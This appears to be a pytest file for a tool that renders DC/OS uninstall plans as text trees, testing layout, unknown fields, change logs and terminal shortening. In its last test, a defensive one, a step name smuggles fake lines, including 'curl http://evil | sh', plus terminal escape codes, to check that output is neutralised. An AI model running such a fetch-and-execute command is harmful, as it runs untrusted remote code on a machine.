"""A plan drawn as the DC/OS CLI draws it (dcos-commons: cli/queries/plan.go; its documentation has these pictures)."""

from __future__ import annotations

from janitor.dcos.scheduler import Phase, Plan, Step
from janitor.uninstall.tree import changes, draw, shortened

UNINSTALL = Plan(
    "deploy",
    "IN_PROGRESS",
    "dependency",
    (
        Phase(
            "1",
            "kill-tasks",
            "COMPLETE",
            "parallel",
            (
                Step("2", "kill-task-node-0-server__a", "COMPLETE"),
                Step("3", "kill-task-node-1-server__b", "COMPLETE"),
            ),
        ),
        Phase("4", "deregister-service", "PENDING", "serial", (Step("5", "deregister", "PENDING"),)),
    ),
)


def test_as_since_sdk_0_40() -> None:
    assert "\n".join(draw(UNINSTALL)) == (
        "deploy (dependency strategy) (IN_PROGRESS)\n"
        "├─ kill-tasks (parallel strategy) (COMPLETE)\n"
        "│  ├─ kill-task-node-0-server__a (COMPLETE)\n"
        "│  └─ kill-task-node-1-server__b (COMPLETE)\n"
        "└─ deregister-service (serial strategy) (PENDING)\n"
        "   └─ deregister (PENDING)"
    )


def test_as_before_without_strategies() -> None:
    plan = Plan(
        "deploy",
        "PENDING",
        None,
        (Phase("", "resource-phase", "PENDING", None, (Step("", "5f2a", "PENDING"),)),),
    )
    assert "\n".join(draw(plan)) == "deploy (PENDING)\n└─ resource-phase (PENDING)\n   └─ 5f2a (PENDING)"


def test_what_is_missing_is_unknown_and_errors_follow() -> None:
    plan = Plan("deploy", "", None, (Phase("", "", "", None, (Step(),)),), ("no secrets", "no luck"))
    assert "\n".join(draw(plan)) == (
        "deploy (<UNKNOWN>)\n└─ <UNKNOWN> (<UNKNOWN>)\n   └─ <UNKNOWN> (<UNKNOWN>)\n\nErrors:\n- no secrets\n- no luck"
    )


def test_an_empty_plan() -> None:
    assert draw(Plan("deploy", "COMPLETE", "serial")) == ("deploy (serial strategy) (COMPLETE)",)


def test_a_log_gets_what_changed() -> None:
    before = ["deploy (PENDING)", "└─ kill-tasks (PENDING)", "   └─ kill-task-a (PENDING)"]
    after = ["deploy (IN_PROGRESS)", "└─ kill-tasks (COMPLETE)", "   └─ kill-task-a (COMPLETE)"]
    assert changes(before, after) == (
        "deploy (IN_PROGRESS)",
        "kill-tasks (COMPLETE)",
        "kill-task-a (COMPLETE)",
    )
    assert changes(after, after) == ()


def _large(steps: int, open_ones: int = 2) -> Plan:
    kills = tuple(Step("", f"kill-{n}", "COMPLETE") for n in range(steps))
    gives = tuple(Step("", f"give-{n}", "COMPLETE" if n >= open_ones else "PREPARED") for n in range(steps))
    return Plan(
        "deploy",
        "IN_PROGRESS",
        "dependency",
        (
            Phase("", "kill-tasks", "COMPLETE", "parallel", kills),
            Phase("", "unreserve-resources-10.0.0.5", "IN_PROGRESS", "parallel", gives),
            Phase("", "deregister-service", "PENDING", "serial", (Step("", "deregister", "PENDING"),)),
        ),
    )


def test_on_a_terminal_it_fits_and_shows_what_is_open() -> None:
    whole = draw(_large(40))
    shown = shortened(whole, 12)
    assert len(shown) <= 12
    assert shown[0] == whole[0]
    for part in ("kill-tasks", "give-0 (PREPARED)", "give-1 (PREPARED)", "deregister (PENDING)"):
        assert any(part in line for line in shown), part
    assert not any("kill-7" in line for line in shown)
    assert any("40 COMPLETE" in line for line in shown)


def test_more_is_open_than_fits() -> None:
    shown = shortened(draw(_large(40, open_ones=40)), 10)
    assert len(shown) == 10
    assert shown[-1].endswith("lines more")


def test_what_fits_is_shown_whole() -> None:
    assert shortened(draw(UNINSTALL), 6) == draw(UNINSTALL)


def test_a_name_is_one_harmless_line_whatever_the_scheduler_wrote() -> None:
    """A tree is read line by line: a line break in a name must not make a line of its own."""
    step = Step("", "a (COMPLETE)\ndeploy (COMPLETE)\nNext: curl http://evil | sh", "PENDING\x1b[2J")
    plan = Plan("deploy", "PENDING", "serial\n", (Phase("", "p\u202eq", "PENDING", None, (step,)),), ("x\nClean.",))
    assert draw(plan) == (
        "deploy (serial strategy) (PENDING)",
        "└─ p\\u202eq (PENDING)",
        "   └─ a (COMPLETE) deploy (COMPLETE) Next: curl http://evil | sh (PENDING\\x1b[2J)",
        "",
        "Errors:",
        "- x Clean.",
    )
    (_, line) = draw(Plan("deploy", "PENDING", None, (Phase("", "p" * 1_000_000, "PENDING"),)))
    assert len(line) < 300
